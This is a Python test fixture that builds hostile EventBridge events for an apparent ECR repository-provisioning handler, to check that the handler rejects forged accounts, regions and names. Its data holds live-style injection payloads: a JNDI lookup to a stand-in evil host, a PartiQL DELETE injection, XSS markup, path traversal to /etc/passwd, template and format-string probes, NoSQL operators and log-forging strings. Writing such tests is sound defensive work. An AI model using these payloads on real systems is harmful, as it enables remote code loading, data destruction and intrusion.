"""Hostile events: what an attacker can choose if it may call ECR or put events on a bus."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tests.handler.events import MISSING, load
from tests.handler.fakes import ACCOUNT, OTHER_ACCOUNT

REPOSITORY = "detail.requestParameters.repositoryName"
REGISTRY = "detail.requestParameters.registryId"
STRANGER = "999999999999"
CENTRAL = "200000000001"
SWITCHED_ON = ACCOUNT
"""The account that the events are of, whose OU is enabled."""

CHANGES: dict[str, Mapping[str, Any]] = {
    "the registry of another member": {REGISTRY: OTHER_ACCOUNT},
    "the registry of the central account": {REGISTRY: CENTRAL},
    "the registry of an outside account": {REGISTRY: STRANGER},
    "a registry that is a number": {REGISTRY: int(SWITCHED_ON)},
    "a registry that is a list with the right account": {REGISTRY: [SWITCHED_ON]},
    "a registry in full-width digits": {REGISTRY: "".join(chr(ord(digit) + 0xFEE0) for digit in SWITCHED_ON)},
    "an empty registry": {REGISTRY: ""},
    "a recipient that is another member": {"detail.recipientAccountId": OTHER_ACCOUNT},
    "an envelope of another member": {"account": OTHER_ACCOUNT},
    "an envelope of the central account": {"account": CENTRAL},
    "everything from an outside account": {
        "account": STRANGER,
        "detail.recipientAccountId": STRANGER,
        REGISTRY: STRANGER,
    },
    "a missing recipient": {"detail.recipientAccountId": MISSING},
    "an account that is an ARN": {"account": f"arn:aws:iam::{SWITCHED_ON}:root"},
    "an account with a line feed": {"account": f"{SWITCHED_ON}\n", "detail.recipientAccountId": f"{SWITCHED_ON}\n"},
    "a region of China": {"region": "cn-north-1", "detail.awsRegion": "cn-north-1"},
    "a region of GovCloud": {"region": "us-gov-west-1", "detail.awsRegion": "us-gov-west-1"},
    "a region with another host name": {
        "region": "eu-west-1.evil.example",
        "detail.awsRegion": "eu-west-1.evil.example",
    },
    "a region with a path": {"region": "eu-west-1/../..", "detail.awsRegion": "eu-west-1/../.."},
    "a region with credentials": {"region": "x@evil.example:1", "detail.awsRegion": "x@evil.example:1"},
    "a region that is not enabled": {"region": "ap-south-1", "detail.awsRegion": "ap-south-1"},
    "two regions": {"detail.awsRegion": "us-east-1"},
    "a name with parent directories": {REPOSITORY: "team-a/../../etc/passwd"},
    "a name that is a URL": {REPOSITORY: "https://evil.example/team-a/api"},
    "a name in upper case": {REPOSITORY: "TEAM-A/API"},
    "a name of one letter": {REPOSITORY: "a"},
    "a name of 257 characters": {REPOSITORY: "team-a/" + "a" * 250},
    "a name of 900,000 characters": {REPOSITORY: "team-a/" + "a" * 900_000},
    "a name of 1,000 four-byte characters": {REPOSITORY: "\U0001f4a5" * 1000},
    "a name of 512 four-byte characters": {REPOSITORY: "\U0001f4a5" * 512},
    "a name that causes backtracking": {REPOSITORY: "team-a/" + "a-" * 120 + "!"},
    "a name with a null": {REPOSITORY: "team-a/api\0"},
    "a name with a line feed": {REPOSITORY: "team-a/api\n"},
    "a name in Cyrillic": {REPOSITORY: "t\u0435am-a/\u0430pi"},
    "a name that ends the log line": {REPOSITORY: 'team-a/x"}\n{"outcome": "created", "repository": "y'},
    "a name with terminal codes": {REPOSITORY: "team-a/\x1b]0;owned\x07\x1b[2J"},
    "a name that is written from right to left": {REPOSITORY: "team-a/\u202ecod.exe"},
    "a name with half a surrogate pair": {REPOSITORY: "team-a/\ud800"},
    "a name that is a template": {REPOSITORY: "team-a/{principal.__class__.__mro__}"},
    "a name that is a look-up": {REPOSITORY: "team-a/${jndi:ldap://evil.example/x}"},
    "a name that is an object": {REPOSITORY: {"$ne": ""}},
    "a name that ends with a dot": {REPOSITORY: "team-a/api."},
    "a name with two slashes": {REPOSITORY: "team-a//api"},
    "a name that is an ARN": {REPOSITORY: f"arn:aws:ecr:eu-west-1:{STRANGER}:repository/team-a/api"},
    "a name with a registry as a prefix": {REPOSITORY: f"{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com/team-a/api"},
    "a name with a tag and a digest": {REPOSITORY: "team-a/api:1@sha256:" + "0" * 64},
    "a name in full-width letters": {REPOSITORY: "".join(chr(ord(letter) + 0xFEE0) for letter in "team")},
    "a name with invisible characters": {REPOSITORY: "team-a/\u200bapi\ufeff"},
    "a name that is a number": {REPOSITORY: 10**300},
    "a name that is true": {REPOSITORY: True},
    "a name that is PartiQL": {REPOSITORY: 'team-a/x\'}; DELETE FROM "deployer-ledger" --'},
    "a principal that is a template": {"detail.userIdentity.arn": "{account}{event_time}{principal.__globals__}"},
    "a principal with format strings": {"detail.userIdentity.arn": "arn:aws:sts::1:assumed-role/%s%n{0}{}/x"},
    "a principal of nearly a megabyte": {"detail.userIdentity.arn": "x" * 900_000},
    "a principal with line separators": {"detail.userIdentity.arn": "arn:\u2028\u2029\x85\r\n"},
    "a user agent that ends the log line": {"detail.userAgent": '"}\n{"level": "FATAL"}\n\x1b[31m'},
    "a user agent of nearly a megabyte": {"detail.userAgent": "\u202e" * 140_000},
    "a user agent that is an object": {"detail.userAgent": {"a": [1, {"b": None}]}},
    "a user agent that is markup": {"detail.userAgent": "<script>alert(1)</script> @channel =HYPERLINK(1)"},
    "an address that is an object": {"detail.sourceIPAddress": {"$gt": ""}},
    "an event id that is another key": {"detail.eventID": "x#created"},
    "an event id that is the key of a counter": {"detail.eventID": "limit#300000000001"},
    "an event id of a kilobyte": {"detail.eventID": "x" * 1024},
    "an event id with a slash": {"detail.eventID": "../../role"},
    "an event id in another script": {"detail.eventID": "\u0661\u0662"},
    "an envelope without an id": {"id": MISSING},
    "a forged replay name": {"replay-name": {"a": "b"}},
    "an unknown call": {"detail.eventName": "InitiateLayerUpload\n"},
    "a call of another service": {"detail.eventSource": "sts.amazonaws.com"},
    "a time in the future": {"detail.eventTime": "2099-12-31T23:59:59Z"},
    "a time in the year 1": {"detail.eventTime": "0001-01-01T00:00:00Z"},
    "a time in another zone": {"detail.eventTime": "2026-11-23T07:45:12+14:00"},
    "a date that does not exist": {"detail.eventTime": "2026-02-30T00:00:00Z"},
    "a time that is a number": {"detail.eventTime": 1e308},
    "parameters that are a list": {"detail.requestParameters": ["team-a/api"]},
    "an identity that is a string": {"detail.userIdentity": "root"},
    "an identity that names a role of another account": {
        "detail.userIdentity.sessionContext.sessionIssuer.arn": f"arn:aws:iam::{STRANGER}:role/ci-build"
    },
}


def deep(levels: int) -> Any:
    """Objects in lists in objects."""
    value: Any = "bottom"
    for _ in range(levels):
        value = {"deeper": [value]}
    return value


def corpus() -> dict[str, Any]:
    """Every hostile event by its description."""
    events = {sentence: load(changes=changes) for sentence, changes in CHANGES.items()}
    return events | {
        "a list instead of an event": [1, 2, 3],
        "a string instead of an event": "team-a/api",
        "nothing": None,
        "an empty object": {},
        "a deep event": load(changes={REPOSITORY: deep(200), "detail.userIdentity.sessionContext": deep(200)}),
        "an event as deep as Lambda accepts": load(changes={REPOSITORY: deep(420)}),
        "an event that is malformed, large and in another script": load(
            changes={REPOSITORY: ["\u5b57" * 300_000], "detail.userAgent": "\ud800\uffff"}
        ),
        "an event that names its account twice": load(
            changes={"recipientAccountId": STRANGER, "detail.account": STRANGER, "detail.registryId": STRANGER}
        ),
        "an event with the tag that proves ownership": load(
            changes={"detail.requestParameters.tags": [{"key": "deployer:event-id", "value": "x"}]}
        ),
        "an event with a role and an endpoint of its own": load(
            changes={
                "CREATOR_ROLE": f"arn:aws:iam::{STRANGER}:role/x",
                "detail.tlsDetails": {"clientProvidedHostHeader": "evil.example"},
                "detail.requestParameters.endpoint_url": "https://evil.example",
            }
        ),
        "a wide event": load(changes={"detail.additional": {str(number): "x" * 50 for number in range(3_000)}}),
        "an event of another source": load(changes={"source": "my.app", "detail.eventSource": "my.app"}),
        "an event without an error": load(changes={"detail.errorCode": MISSING}),
    }
